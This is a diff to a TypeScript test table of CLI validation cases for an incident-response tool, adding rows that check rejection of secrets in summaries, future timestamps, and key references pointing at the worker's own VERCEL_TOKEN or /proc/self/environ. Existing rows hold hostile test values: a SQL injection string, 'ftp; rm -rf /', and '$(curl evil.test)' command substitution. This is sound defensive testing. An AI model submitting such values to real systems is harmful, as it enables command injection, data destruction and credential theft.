@@ -35,6 +35,11 @@ const CLI_ROWS: CliRow[] = [
   ['src/cli/incident.ts', ['resolve', 'incident-1', '--by', 'alice', '--summary', 'fixed', '--detection', 'psychic'], /^error: --detection: .*expected one of "monitoring_alert"/],
   ['src/cli/incident.ts', ['extend', 'incident-1', '--by', 'bob', '--for', 'forever', '--reason', 'still down'], /^error: --for: must be a duration/],
   ['src/cli/incident.ts', ['provide-key', 'incident-1', '--ref', RAW_KEY, '--by', 'alice'], /^error: --ref: this looks like a raw secret key/],
+  ['src/cli/incident.ts', ['start', '--reporter', 'alice', '--summary', `leaked ${RAW_KEY}xyz`], /^error: --summary: looks like a Clerk secret key .*never carries a secret/],
+  ['src/cli/incident.ts', ['start', '--input', `{"category":"key_compromise","reporter":"alice","approvers":["bob","carol"],"summary":"s","exposedAt":"2999-01-01T00:00:00Z"}`], /^error: input\.exposedAt: must not be in the future/],
+  ['src/cli/incident.ts', ['reject', 'incident-1', '--step', 'operator_action', '--approver', 'bob', '--reason', `token ${'xo' + 'xb-'}1234567890-abcdefghijkl`], /^error: --reason: looks like a Slack token/],
+  ['src/cli/incident.ts', ['provide-key', 'incident-1', '--ref', 'env:VERCEL_TOKEN', '--by', 'alice'], /^error: --ref: VERCEL_TOKEN is one of the worker's own secrets/],
+  ['src/cli/incident.ts', ['provide-key', 'incident-1', '--ref', 'file:/proc/self/environ', '--by', 'alice'], /^error: --ref: a key file cannot be under \/proc/],
   ['src/cli/incident.ts', ['sign', 'incident-1', 'maybe', '--step', 'emergency_bypass', '--approver', 'bob', '--key', 'agent'], /^error: <decision>: must be approve or reject/],
   ['src/cli/triage.ts', ['--probe-timeout', '5'], /^error: --probe-timeout: must be a duration/],
   ['src/cli/diagnose.ts', ['--user', "user_1'; DROP TABLE users;--", '--sandbox', 'http://127.0.0.1:1'], /^error: --user\[0\]: must be a Clerk user id/],
@@ -46,6 +51,8 @@ const CLI_ROWS: CliRow[] = [
   ['src/main.ts', [], /TEMPORAL_UI_PORT: .*expected number, received NaN/, { TEMPORAL_UI_PORT: '<script>' }],
   ['src/worker/index.ts', [], /DEPLOY_ADAPTER: .*expected one of "vercel"/, { DEPLOY_ADAPTER: 'ftp; rm -rf /' }],
   ['src/worker/index.ts', [], /PAGERDUTY_ROUTING_KEYS\.auth-oncall: must be a 32-character Events API v2 integration key/, { PAGERDUTY_ROUTING_KEYS: '{"auth-oncall":"$(curl evil.test)"}' }],
+  ['src/worker/index.ts', [], /KEY_REF_ALLOWED_ENV: VERCEL_TOKEN names one of the worker's own secrets/, { KEY_REF_ALLOWED_ENV: 'VERCEL_TOKEN' }],
+  ['src/worker/index.ts', [], /KEY_REF_ALLOWED_DIRS: \/proc: keys cannot be read from/, { KEY_REF_ALLOWED_DIRS: '/proc' }],
 ];
 
 describe.concurrent('a CLI refuses a malformed argument with one line naming it', () => {
